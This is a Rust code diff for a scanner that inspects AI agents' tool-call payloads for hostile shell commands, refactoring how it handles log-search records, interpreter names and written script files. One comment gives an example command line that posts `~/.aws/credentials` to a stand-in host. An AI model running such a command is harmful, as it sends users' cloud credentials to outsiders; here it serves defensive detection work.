@@ -575,6 +575,8 @@ pub(crate) type Pending = Finding;
 struct Run<'i> {
     inspector: &'i Inspector,
     tool: String,
+    /// The tool reads logs or search results ([`reads_records`]).
+    reads_records: bool,
     schema: Option<&'i ToolSchema>,
     hits: Vec<Pending>,
     urls: Vec<FoundUrl>,
@@ -584,7 +586,9 @@ struct Run<'i> {
 
 impl<'i> Run<'i> {
     fn new(inspector: &'i Inspector, tool: &str, schema: Option<&'i ToolSchema>) -> Self {
-        Run { inspector, tool: tool.to_ascii_lowercase(), schema, hits: Vec::new(), urls: Vec::new(), budget: inspector.config.max_bytes }
+        let tool = tool.to_ascii_lowercase();
+        let reads_records = reads_records(&tool);
+        Run { inspector, tool, reads_records, schema, hits: Vec::new(), urls: Vec::new(), budget: inspector.config.max_bytes }
     }
 
     /// Scans the strings of one JSON document (the payload, or one embedded
@@ -743,7 +747,6 @@ impl<'i> Run<'i> {
     /// every later run executes: analyzed as a command line, one level
     /// lower (this call writes them, it does not run them).
     fn script_file(&mut self, nodes: &[Node<'_>], strings: &[Scanned<'_>], prefix: &str, chain: &[Decoding]) {
-        const CONTENT: &[&str] = CONTENT_FIELDS;
         let script = |p: &str| {
             if !p.contains('.') && !p.contains("cron") || p.trim().contains(char::is_whitespace) {
                 return false;
@@ -766,7 +769,7 @@ impl<'i> Run<'i> {
             !s.is_key
                 && s.node
                     .and_then(|i| nodes.get(i))
-                    .is_some_and(|n| matches!(&n.token, Token::Key(k) if CONTENT.iter().any(|c| k.eq_ignore_ascii_case(c))))
+                    .is_some_and(|n| matches!(&n.token, Token::Key(k) if CONTENT_FIELDS.iter().any(|c| k.eq_ignore_ascii_case(c))))
         });
         for s in content.take(8) {
             if s.text.len() > self.budget || s.text.len() > WINDOW {
@@ -777,17 +780,8 @@ impl<'i> Run<'i> {
                 Subject { text: &s.text, context: Context::Shell, field: "command", tool: &self.tool, decoded: !chain.is_empty() };
             let mut hits = Vec::new();
             shell::analyze(&subject, &mut hits);
-            let mut at = String::from(prefix);
-            at.push_str(&pointer(nodes, s.node));
             for h in hits {
-                self.hits.push(Finding {
-                    family: h.family,
-                    confidence: h.confidence.lowered(),
-                    pointer: at.clone(),
-                    chain: chain.to_vec(),
-                    rule: h.rule,
-                    excerpt: excerpt(&s.text, &h.at),
-                });
+                self.found(nodes, s.node, prefix, chain, h.family, h.confidence.lowered(), h.rule, excerpt(&s.text, &h.at));
             }
         }
     }
@@ -943,9 +937,10 @@ impl<'i> Run<'i> {
             at.push_str(&pointer(nodes, object));
             self.command_line(&line, &at, chain);
         }
+        let wrapped = wrapped_program(&self.tool);
         // An argument array beside no program, for a tool that wraps one
         // (`pip.install` with `"extra_args": ["--index-url", "http://..."]`).
-        if let Some(program) = wrapped_program(&self.tool) {
+        if let Some(program) = wrapped {
             let mut arrays: Vec<usize> = strings
                 .iter()
                 .filter_map(|s| {
@@ -985,14 +980,16 @@ impl<'i> Run<'i> {
         // (By its base name without a version: `/usr/bin/awk`, `python3.11`.)
         const CODE: &[&str] =
             &["script", "code", "expression", "expr", "source", "eval", "program_text", "body", "src", "snippet", "inline", "text"];
-        const INTERPRETERS: &[&str] =
-            &["awk", "gawk", "mawk", "nawk", "perl", "python", "python3", "ruby", "node", "php", "sed", "lua", "bash", "sh"];
-        let interpreter = |t: &str| {
-            let name = t.trim().rsplit(['/', '\\']).next().unwrap_or("");
-            let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-            INTERPRETERS.contains(&name) || name.strip_suffix("python").is_some_and(str::is_empty) || name == "python"
+        // An interpreter's name: its base name without a version.
+        let interpreter = |t: &str| -> Option<&'static str> {
+            const INTERPRETERS: &[&str] =
+                &["awk", "gawk", "mawk", "nawk", "perl", "python", "ruby", "node", "php", "sed", "lua", "bash", "sh"];
+            let name = t.trim().rsplit(['/', '\\']).next().unwrap_or("").trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+            INTERPRETERS.iter().find(|i| **i == name).copied()
         };
-        for program in strings.iter().filter(|s| !s.is_key && named(s.node, PROGRAM) && interpreter(&s.text)) {
+        for (program, name) in
+            strings.iter().filter(|s| !s.is_key && named(s.node, PROGRAM)).filter_map(|s| Some((s, interpreter(&s.text)?)))
+        {
             let object = program.node.and_then(|i| nodes.get(i)).and_then(|n| n.parent);
             let Some(code) = strings
                 .iter()
@@ -1000,14 +997,7 @@ impl<'i> Run<'i> {
             else {
                 continue;
             };
-            let flag = match program
-                .text
-                .trim()
-                .rsplit(['/', '\\'])
-                .next()
-                .unwrap_or("")
-                .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
-            {
+            let flag = match name {
                 "perl" | "ruby" | "node" => Some("-e"),
                 "python" | "bash" | "sh" => Some("-c"),
                 "php" => Some("-r"),
@@ -1043,7 +1033,7 @@ impl<'i> Run<'i> {
         // A URL given to a tool that wraps a program, followed by options
         // (`https://x/ping --data-binary @~/.aws/credentials https://y`): a
         // tool that builds its command line from the URL runs them.
-        let Some(program) = wrapped_program(&self.tool) else { return };
+        let Some(program) = wrapped else { return };
         for url in strings.iter().filter(|s| !s.is_key && s.text.len() <= 4096 && is_url_field(field_of(nodes, s.node))).take(64) {
             let mut words = url.text.split_whitespace();
             let first = words.next().unwrap_or("");
@@ -1201,7 +1191,7 @@ impl<'i> Run<'i> {
             // What a search or a log query returned (`/results/0/args/q`
             // of `logs.search`) is a record of requests others made: a path,
             // SQL or a command there is data this call reads, not runs.
-            if returned_record(&self.tool, at) {
+            if self.reads_records && RECORDS.iter().any(|r| at.starts_with(r)) {
                 for h in hits.iter_mut().filter(|h| inert(h.family)) {
                     h.confidence = h.confidence.min(Confidence::Low);
                 }
@@ -1283,7 +1273,8 @@ fn comment_line(text: &str, at: &Range<usize>) -> bool {
         return false;
     }
     // (A CRLF line ends in `\r`.)
-    let l = text.get(line.clone()).unwrap_or("").strip_suffix('\r').unwrap_or_else(|| text.get(line.clone()).unwrap_or(""));
+    let raw = text.get(line.clone()).unwrap_or("");
+    let l = raw.strip_suffix('\r').unwrap_or(raw);
     // A line break of another kind ends the comment for the language
     // (Python splits at `\r`, JavaScript at U+2028): not judged.
     if l.contains(['\r', '\u{2028}', '\u{2029}', '\u{85}', '\u{b}', '\u{c}']) {
@@ -1300,12 +1291,13 @@ fn comment_line(text: &str, at: &Range<usize>) -> bool {
         || l.starts_with("-- ")
 }
 
-/// Whether `at` points into the records a search or log tool returned
-/// (`/results/...`, `/hits/...` of `logs.search`, `siem.query`).
-fn returned_record(tool: &str, at: &str) -> bool {
-    const RECORDS: &[&str] = &["/results/", "/hits/", "/records/", "/events/", "/rows/", "/entries/"];
-    // Logs or a search, read: not a tool that acts on the records it is
-    // given (`audit.remediate`, `logs.cleanup`, `audit_log.export`).
+/// Where a search or log tool's returned records stand in its payload.
+const RECORDS: &[&str] = &["/results/", "/hits/", "/records/", "/events/", "/rows/", "/entries/"];
+
+/// Whether a tool (lower-cased) reads logs or search results
+/// (`logs.search`, `siem.query`), and does not act on the records it is
+/// given (`audit.remediate`, `logs.cleanup`, `audit_log.export`).
+fn reads_records(tool: &str) -> bool {
     let words: Vec<&str> = tool.split(|c: char| !c.is_ascii_alphanumeric()).filter(|w| !w.is_empty()).collect();
     let acts = words.iter().any(|w| {
         matches!(
@@ -1336,7 +1328,7 @@ fn returned_record(tool: &str, at: &str) -> bool {
         )
     });
     let logs = words.iter().any(|w| matches!(*w, "search" | "logs" | "log" | "siem" | "audit" | "events"));
-    !acts && logs && RECORDS.iter().any(|r| at.starts_with(r))
+    !acts && logs
 }
 
 /// Fields that hold what a write tool puts in a file.
@@ -1348,7 +1340,7 @@ const CONTENT_FIELDS: &[&str] = &["content", "contents", "body", "text", "data",
 /// the datasets of an evaluation or a red-team suite (`evals/*.jsonl`).
 fn signature_file(path: &str) -> bool {
     // (Every one has an extension: most strings end here.)
-    if !path.contains('.') || path.contains(char::is_whitespace) && path.trim().contains(char::is_whitespace) {
+    if !path.contains('.') || path.trim().contains(char::is_whitespace) {
         return false;
     }
     let p = path.trim().to_ascii_lowercase();
